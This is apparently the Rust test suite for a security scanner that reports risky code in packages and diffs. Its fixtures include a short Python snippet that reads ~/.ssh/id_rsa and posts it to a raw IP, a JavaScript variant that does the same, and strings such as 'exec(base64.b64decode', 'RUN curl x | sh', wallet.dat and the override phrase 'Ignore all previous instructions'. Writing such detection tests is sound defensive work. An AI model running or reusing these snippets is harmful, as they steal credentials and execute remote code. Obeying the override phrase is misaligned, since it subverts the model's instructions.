use super::testing::{shown_diff, shown_full};

const STEALER: &str = "\
import os, json, urllib.request
key = open(os.path.expanduser('~/.ssh/id_rsa')).read()
urllib.request.urlopen('http://45.33.32.156/x', data=key.encode())
";

#[test]
fn a_stealer_is_high_and_critical_where_it_runs_by_itself() {
    insta::assert_snapshot!(shown_full(&[("src/a.py", STEALER)]), @r"
    high src/a.py:3: This file reads where secrets are kept and contacts 45.33.32.156
        | urllib.request.urlopen('http://45.33.32.156/x', data=key.encode())
    medium src/a.py:3: This code contacts an address without a name: 45.33.32.156
        | urllib.request.urlopen('http://45.33.32.156/x', data=key.encode())
    low src/a.py:2: This code names a file or store where other programs keep credentials: 2 places in 1 file
        | key = open(os.path.expanduser('~/.ssh/id_rsa')).read()
    ");
    insta::assert_snapshot!(shown_full(&[("setup.py", STEALER)]), @r"
    critical setup.py:3: This file reads where secrets are kept and contacts 45.33.32.156, and runs when the package is installed
        | urllib.request.urlopen('http://45.33.32.156/x', data=key.encode())
    medium setup.py:1: setup.py contacts the network when the package is installed
        | import os, json, urllib.request
    medium setup.py:3: This code contacts an address without a name: 45.33.32.156
        | urllib.request.urlopen('http://45.33.32.156/x', data=key.encode())
    low setup.py:2: This code names a file or store where other programs keep credentials: 2 places in 1 file
        | key = open(os.path.expanduser('~/.ssh/id_rsa')).read()
    ");
    insta::assert_snapshot!(shown_full(&[("tests/a.py", STEALER)]), @r"
    medium tests/a.py:3: This file reads where secrets are kept and contacts 45.33.32.156
        | urllib.request.urlopen('http://45.33.32.156/x', data=key.encode())
    low tests/a.py:3: This code contacts an address without a name: 45.33.32.156
        | urllib.request.urlopen('http://45.33.32.156/x', data=key.encode())
    ");
}

#[test]
fn a_store_that_is_read_and_posted_to_any_host_is_medium() {
    let posts = |path: &str, host: &str| {
        format!(
            "const k = fs.readFileSync(join(home, {path}));\nfetch(\"https://{host}/k\", {{method: \"POST\", body: k}});\n"
        )
    };
    insta::assert_snapshot!(shown_full(&[("src/a.js", &posts("\".ssh\", \"id_rsa\"", "acme.io"))]), @r#"
        medium src/a.js:2: This file reads where secrets are kept and posts to acme.io
            | fetch("https://acme.io/k", {method: "POST", body: k});
        low src/a.js:1: This code names a file or store where other programs keep credentials: 2 places in 1 file
            | const k = fs.readFileSync(join(home, ".ssh", "id_rsa"));
        info src/a.js:2: This code names hosts: acme.io
            | fetch("https://acme.io/k", {method: "POST", body: k});
        "#);
    for (path, host) in [("\".npmrc\"", "github.com"), ("\"data.json\"", "acme.io")] {
        assert!(!shown_full(&[("src/a.js", &posts(path, host))]).contains("medium"), "{path} {host}");
    }
    assert!(!shown_full(&[("src/a.js", &posts("\".ssh\"", "acme.io").replace("POST", "GET"))]).contains("medium"));
}

#[test]
fn what_the_base_had_is_not_said_again() {
    let base = "import subprocess\nsubprocess.run(['ls'])\n";
    let head = "import subprocess\nsubprocess.run(['ls'])\nsubprocess.run(['curl', 'https://api.acme.io'])\n";
    insta::assert_snapshot!(shown_diff(&[("a.py", base)], &[("a.py", base)]), @"");
    insta::assert_snapshot!(shown_diff(&[("a.py", base)], &[("a.py", head)]), @r"
    low a.py:3: This code starts a program
        | subprocess.run(['curl', 'https://api.acme.io'])
    low a.py:3: This file names a host that the code did not name before: api.acme.io
        | subprocess.run(['curl', 'https://api.acme.io'])
    ");
    insta::assert_snapshot!(shown_full(&[("a.py", head)]), @r"
    info a.py:2: This code starts a program: 2 places in 1 file
        | subprocess.run(['ls'])
    info a.py:3: This code names hosts: api.acme.io
        | subprocess.run(['curl', 'https://api.acme.io'])
    ");
}

#[test]
fn what_was_a_comment_or_a_text_in_the_base_is_new_where_it_is_code() {
    let call = "subprocess.run(['curl', x])";
    let long = format!("a = 1; {}subprocess.run(x)", "b = c; ".repeat(60));
    for (path, base, head) in [
        ("a.py", format!("a = 1\n\"\"\"\n{call}\n\"\"\"\n"), format!("a = 1\n{call}\n")),
        ("a.py", format!("a = \"\"\"\n{call}\n\"\"\"\n"), format!("a = 1\n{call}\n")),
        ("a.py", format!("# {long}\n"), format!("{long}\n")),
        ("a.ts", "/*\nBun.spawn(x)\n*/\n".to_owned(), "Bun.spawn(x)\n".to_owned()),
    ] {
        let found = shown_diff(&[(path, &base)], &[(path, &head)]);
        assert!(found.contains("starts a program"), "{head}: {found}");
    }
    for (base, head) in [
        (format!("{call}  # why\n"), format!("x = 1\n    {call}  # why\n")),
        (format!("{long}\n"), format!("x = 1\n{long}\n")),
        (format!("{call}\r\n"), format!("{call}\nx = 1\n")),
    ] {
        assert_eq!(shown_diff(&[("a.py", &base)], &[("a.py", &head)]), "", "{head}");
    }
}

#[test]
fn a_flood_is_counted_and_keeps_its_gravest() {
    let mut text = "import subprocess\n".repeat(1_000).replace("import subprocess", "subprocess.run(['ls'])");
    text.push_str("exec(base64.b64decode(x))\n");
    let findings = super::testing::diff(&[], &[("a.py", &text)]);
    assert!(findings.len() < 20);
    assert!(findings.iter().any(|finding| finding.title.contains("decoded")));
    assert!(findings.iter().any(|finding| finding.title.contains("more findings of the kind `behaviour`")));
}

#[test]
fn there_are_never_more_findings_than_an_agent_may_make() {
    let names: Vec<String> = (0..2_000).map(|n| format!("src/{n}.py")).collect();
    let text = "exec(base64.b64decode(x))\nopen('wallet.dat')\nx = 'https://webhook.site/1'\n# Ignore all previous instructions\npass\u{200b}word\n";
    let files: Vec<(&str, &str)> = names.iter().map(|name| (name.as_str(), text)).collect();
    let findings = super::testing::full(&files);
    assert!(findings.len() <= crate::verdict::document::MAX_FINDINGS, "{}", findings.len());
    assert_eq!(findings.first().map(|finding| finding.risk), Some(crate::verdict::Risk::Critical));
}

proptest::proptest! {
    #![proptest_config(proptest::prelude::ProptestConfig::with_cases(64))]
    #[test]
    fn any_bytes_can_be_scanned_and_give_the_same_findings_twice(
        path in "(a\\.py|a\\.js|Dockerfile|package\\.json|setup\\.py|Cargo\\.toml|yarn\\.lock|CLAUDE\\.md|requirements\\.txt|go\\.mod|x)",
        old in proptest::collection::vec(proptest::prelude::any::<u8>(), 0..200),
        new in proptest::collection::vec(proptest::prelude::any::<u8>(), 0..200),
        text in "(\\PC|eval\\(atob\\(|exec\\(base64\\.b64decode\\(|https://45\\.33\\.32\\.156/|\\.ssh/id_rsa|ignore previous instructions|\u{202e}|\u{200b}|\n|  |FROM a|RUN curl x \\| sh|\"|\\{|\\}|resolved \"http://x/|é){0,40}",
    ) {
        let head = [text.as_bytes(), &new].concat();
        let (base, head) = (super::testing::snapshot(&[(path.as_str(), &old)]), super::testing::snapshot(&[(path.as_str(), &head)]));
        let first = super::testing::diff_snapshots(&base, &head);
        proptest::prop_assert_eq!(&first, &super::testing::diff_snapshots(&base, &head));
        let full = crate::snapshot::Material { head: &head, base: None, changes: &[], directory: "", dockerfile: None };
        super::testing::check(super::scan(&full), &head);
    }
}

#[test]
fn lines_made_to_be_looked_at_again_and_again_cost_no_more_than_others() {
    // Each of these took time in proportion to the square of its length once, or would if a bound were dropped: at a
    // megabyte the test would not end.
    let long = |piece: &str| piece.repeat(1_000_000 / piece.len());
    for (path, piece) in [
        ("a.py", "\"\"\" "),
        ("a.js", "=/"),
        ("a.js", "x\u{202a}                                             "),
        ("a.js", "x                                 "),
        ("Dockerfile", "FROM a as b\n"),
        ("Dockerfile", "RUN a \\\n"),
        ("a.py", "://"),
        ("a.py", "eval("),
        ("a.md", "<!-- ignore all previous instructions "),
        ("package.json", "{\"a\":"),
        ("yarn.lock", "resolved \"http://x"),
    ] {
        assert!(super::testing::full(&[(path, &long(piece))]).len() < 100, "{path}: {piece}");
    }
}
